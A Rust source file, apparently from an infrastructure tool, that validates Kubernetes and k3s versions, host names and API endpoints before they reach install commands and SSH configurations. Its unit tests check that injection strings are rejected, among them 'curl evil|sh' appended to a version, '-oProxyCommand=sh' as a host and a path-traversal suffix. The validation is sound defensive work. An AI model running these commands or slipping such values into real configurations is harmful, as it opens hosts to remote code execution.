//! Inventory values that leave kiwi-infra: versions that end up in install
//! commands and package-repository URLs, addresses and endpoints that end
//! up in SSH configurations, join configurations and kubeconfigs. Each is
//! parsed into a type with a strict grammar where the inventory is read, so
//! a value that passes `validate` cannot fail (or do something else) half-way
//! through `apply`, and the code further in only ever sees values that fit.
//!
//! Every type serialises as the string it was parsed from, so the inventory
//! digest of a saved plan does not depend on these types, and deserialising
//! parses again.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::str::FromStr;

/// Digits of a version number: `0`, or no leading zero, at most 4 digits.
fn version_number(s: &str) -> Option<u32> {
    let ok = !s.is_empty()
        && s.len() <= 4
        && s.bytes().all(|b| b.is_ascii_digit())
        && (s == "0" || !s.starts_with('0'));
    ok.then(|| s.parse().ok()).flatten()
}

/// `MAJOR.MINOR.PATCH` without a leading `v`.
fn triple(s: &str) -> Option<(u32, u32, u32)> {
    let mut parts = s.split('.');
    let major = version_number(parts.next()?)?;
    let minor = version_number(parts.next()?)?;
    let patch = version_number(parts.next()?)?;
    parts.next().is_none().then_some((major, minor, patch))
}

/// A Kubernetes release, `v1.31.4`: the Core cluster's version, from which
/// new workers' package repository (`v1.31`) is chosen.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct KubernetesVersion {
    major: u32,
    minor: u32,
    patch: u32,
}

impl KubernetesVersion {
    /// What the grammar is, for error messages.
    pub const EXPECTED: &'static str = "a Kubernetes release such as \"v1.31.4\" (v, then \
        major.minor.patch in digits)";

    /// `v1.31`, the name of the package repository of this minor version.
    pub fn minor_release(&self) -> String {
        format!("v{}.{}", self.major, self.minor)
    }
}

impl FromStr for KubernetesVersion {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        let (major, minor, patch) = s.strip_prefix('v').and_then(triple).ok_or_else(|| {
            format!(
                "`{s}` is not a Kubernetes version; expected {}",
                Self::EXPECTED
            )
        })?;
        Ok(Self {
            major,
            minor,
            patch,
        })
    }
}

impl fmt::Display for KubernetesVersion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "v{}.{}.{}", self.major, self.minor, self.patch)
    }
}

/// A k3s release, `v1.31.4+k3s1` (or a release candidate,
/// `v1.31.4-rc1+k3s1`): what `INSTALL_K3S_VERSION` gets, and what the
/// install script puts in download URLs.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct K3sVersion(String);

impl K3sVersion {
    /// What the grammar is, for error messages.
    pub const EXPECTED: &'static str = "a k3s release such as \"v1.31.4+k3s1\" (v, \
        major.minor.patch, optionally -rcN, then +k3sN)";

    /// The version as written, e.g. `v1.31.4+k3s1`.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl FromStr for K3sVersion {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        let fits = || -> Option<()> {
            let (release, build) = s.strip_prefix('v')?.split_once("+k3s")?;
            version_number(build)?;
            let numbers = match release.split_once("-rc") {
                Some((numbers, rc)) => {
                    version_number(rc)?;
                    numbers
                }
                None => release,
            };
            triple(numbers).map(drop)
        };
        fits()
            .map(|()| Self(s.to_string()))
            .ok_or_else(|| format!("`{s}` is not a k3s version; expected {}", Self::EXPECTED))
    }
}

impl fmt::Display for K3sVersion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A host: an IP address or a DNS host name (RFC 1123: labels of letters,
/// digits and `-`, not starting or ending with `-`; the last label not all
/// digits, so a mistyped IPv4 address is not taken for a name).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub enum Host {
    /// An IPv4 address.
    V4(Ipv4Addr),
    /// An IPv6 address.
    V6(Ipv6Addr),
    /// A host name.
    Name(String),
}

impl Host {
    /// What the grammar is, for error messages.
    pub const EXPECTED: &'static str = "an IPv4 address, an IPv6 address or a DNS host name \
        (letters, digits, `-` and `.`)";

    /// The address of an IP host.
    pub fn ip(&self) -> Option<IpAddr> {
        match self {
            Self::V4(ip) => Some(IpAddr::V4(*ip)),
            Self::V6(ip) => Some(IpAddr::V6(*ip)),
            Self::Name(_) => None,
        }
    }
}

fn is_host_name(s: &str) -> bool {
    let label_ok = |l: &str| {
        !l.is_empty()
            && l.len() <= 63
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            && !l.starts_with('-')
            && !l.ends_with('-')
    };
    let last_is_numeric = s
        .rsplit('.')
        .next()
        .is_some_and(|l| l.bytes().all(|b| b.is_ascii_digit()));
    !s.is_empty() && s.len() <= 253 && s.split('.').all(label_ok) && !last_is_numeric
}

impl FromStr for Host {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        if let Ok(ip) = s.parse::<Ipv4Addr>() {
            return Ok(Self::V4(ip));
        }
        if let Ok(ip) = s.parse::<Ipv6Addr>() {
            return Ok(Self::V6(ip));
        }
        if is_host_name(s) {
            return Ok(Self::Name(s.to_string()));
        }
        Err(format!(
            "`{s}` is not an address or host name; expected {}",
            Self::EXPECTED
        ))
    }
}

impl fmt::Display for Host {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::V4(ip) => write!(f, "{ip}"),
            Self::V6(ip) => write!(f, "{ip}"),
            Self::Name(name) => f.write_str(name),
        }
    }
}

/// An API server endpoint, `host:port` (`[v6]:port` for IPv6).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct ApiEndpoint {
    host: Host,
    port: u16,
}

impl ApiEndpoint {
    /// What the grammar is, for error messages.
    pub const EXPECTED: &'static str = "host:port, e.g. \"api.core.example.net:6443\" or \
        \"203.0.113.10:6443\" ([address]:port for IPv6), with a port from 1 to 65535";

    /// The host.
    pub fn host(&self) -> &Host {
        &self.host
    }

    /// The port.
    pub fn port(&self) -> u16 {
        self.port
    }
}

impl FromStr for ApiEndpoint {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        let bad = || format!("`{s}` is not host:port; expected {}", Self::EXPECTED);
        let (host, port) = match s.strip_prefix('[') {
            Some(rest) => {
                let (v6, port) = rest.split_once("]:").ok_or_else(bad)?;
                (Host::V6(v6.parse().map_err(|_| bad())?), port)
            }
            None => {
                let (host, port) = s.rsplit_once(':').ok_or_else(bad)?;
                if host.contains(':') {
                    return Err(bad());
                }
                (host.parse::<Host>().map_err(|_| bad())?, port)
            }
        };
        let port_ok = !port.is_empty()
            && port.len() <= 5
            && port.bytes().all(|b| b.is_ascii_digit())
            && !port.starts_with('0');
        let port = port_ok
            .then(|| port.parse::<u16>().ok())
            .flatten()
            .ok_or_else(bad)?;
        Ok(Self { host, port })
    }
}

impl fmt::Display for ApiEndpoint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.host {
            Host::V6(ip) => write!(f, "[{ip}]:{}", self.port),
            host => write!(f, "{host}:{}", self.port),
        }
    }
}

macro_rules! string_conversions {
    ($($t:ty),*) => {$(
        impl TryFrom<String> for $t {
            type Error = String;
            fn try_from(s: String) -> Result<Self, String> {
                s.parse()
            }
        }
        impl From<$t> for String {
            fn from(v: $t) -> String {
                v.to_string()
            }
        }
    )*};
}

string_conversions!(KubernetesVersion, K3sVersion, Host, ApiEndpoint);

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn kubernetes_versions_are_v_and_three_numbers() {
        let v: KubernetesVersion = "v1.31.4".parse().unwrap();
        assert_eq!(v.to_string(), "v1.31.4");
        assert_eq!(v.minor_release(), "v1.31");
        for bad in [
            "v1.31",
            "1.31.4",
            "v1.31.4; curl evil|sh",
            "v1.31.4\n",
            "v01.31.4",
            "v1.31.4.5",
            "v1.31.x",
            "v1.31.4+k3s1",
            "v99999.1.1",
            "",
            "latest",
        ] {
            assert!(bad.parse::<KubernetesVersion>().is_err(), "{bad:?}");
        }
    }

    #[test]
    fn k3s_versions_follow_the_release_names() {
        for good in ["v1.31.4+k3s1", "v1.30.0-rc1+k3s2"] {
            assert_eq!(good.parse::<K3sVersion>().unwrap().as_str(), good);
        }
        for bad in [
            "v1.31.4",
            "v1.31+k3s1",
            "v1.31.4+k3s",
            "v1.31.4+k3s1; curl evil|sh",
            "v1.31.4+k3s1/../../x",
            "1.31.4+k3s1",
            "v1.31.4-beta+k3s1",
            " v1.31.4+k3s1",
        ] {
            assert!(bad.parse::<K3sVersion>().is_err(), "{bad:?}");
        }
    }

    #[test]
    fn hosts_are_addresses_or_host_names() {
        assert_eq!(
            "203.0.113.11".parse::<Host>().unwrap(),
            Host::V4(Ipv4Addr::new(203, 0, 113, 11))
        );
        assert!(matches!("::1".parse::<Host>().unwrap(), Host::V6(_)));
        assert!(matches!(
            "cp-1.core.example".parse::<Host>().unwrap(),
            Host::Name(_)
        ));
        for bad in [
            "",
            "-oProxyCommand=sh",
            "a b",
            "host\nProxyCommand x",
            "203.0.113.300",
            "1.2.3",
            "a..b",
            "a_b",
            "x.-y",
        ] {
            assert!(bad.parse::<Host>().is_err(), "{bad:?}");
        }
    }

    #[test]
    fn endpoints_are_host_and_port() {
        for (text, shown) in [
            ("api.core.example:6443", "api.core.example:6443"),
            ("203.0.113.10:443", "203.0.113.10:443"),
            ("[2001:db8::1]:6443", "[2001:db8::1]:6443"),
        ] {
            assert_eq!(text.parse::<ApiEndpoint>().unwrap().to_string(), shown);
        }
        for bad in [
            "api.core.example",
            "api:0",
            "api:+6443",
            "api:65536",
            "api:06443",
            ":6443",
            "2001:db8::1:6443",
            "a b:6443",
            "api:6443/path",
            "https://api:6443",
        ] {
            assert!(bad.parse::<ApiEndpoint>().is_err(), "{bad:?}");
        }
    }

    #[test]
    fn each_type_reads_back_what_it_writes() {
        let e: ApiEndpoint = "[::1]:6443".parse().unwrap();
        let json = serde_json::to_string(&e).unwrap();
        assert_eq!(json, "\"[::1]:6443\"");
        assert_eq!(serde_json::from_str::<ApiEndpoint>(&json).unwrap(), e);
        assert!(serde_json::from_str::<K3sVersion>("\"v1; x\"").is_err());
    }
}
